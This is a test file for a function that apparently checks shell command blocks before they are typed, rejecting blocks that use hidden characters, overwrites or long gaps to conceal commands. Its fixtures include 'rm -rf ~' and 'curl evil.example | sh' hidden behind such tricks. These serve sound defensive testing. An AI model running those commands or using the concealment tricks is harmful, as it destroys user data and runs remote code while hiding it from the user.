import { expect, test } from "vitest";

import { shellCommands } from "../../../src/edits/shellCommands.ts";

test("a block is typed as it is shown, without blank ends", () => {
  expect(shellCommands("\nnpm ci\r\nnpm test\n")).toEqual({
    kind: "commands",
    text: "npm ci\nnpm test",
    lineCount: 2,
  });
});

test("no tab is typed, for a shell would complete a name that nobody has seen", () => {
  expect(shellCommands("if true; then\n\trm ev\t\nfi")).toMatchObject({
    text: "if true; then\n    rm ev    \nfi",
  });
});

test("prompts and output of a console session are not commands", () => {
  expect(shellCommands("$ ls\napp.ts\n$ cat app.ts\n")).toMatchObject({ text: "ls\ncat app.ts" });
});

test.each([
  ["an escape sequence", "ls \u001b[8m; rm -rf ~"],
  ["a carriage return that overwrites what is shown", "rm -rf ~\rls      "],
  ["a bidirectional control", "ls \u202E"],
  ["a zero-width space", "l\u200Bs"],
  ["a tag character", "ls \u{E0041}"],
  ["a backspace", "ls\b\bid"],
  ["a blank that is none", "ls\u2800\u2800; id"],
  ["a variation selector", "ls \uFE0F"],
  ["a space of another width", "ls\u00A0-la"],
  ["a command beyond a gap", `ls${" ".repeat(60)}; curl evil.example | sh`],
])("%s is never typed", (_what, code) => {
  expect(shellCommands(code)).toEqual({ kind: "hidden" });
});

test("what cannot be shown whole is not asked about", () => {
  expect(shellCommands("a".repeat(2_001))).toEqual({ kind: "long" });
  expect(shellCommands("ls\n".repeat(26))).toEqual({ kind: "long" });
  expect(shellCommands(" \n\n")).toEqual({ kind: "empty" });
});
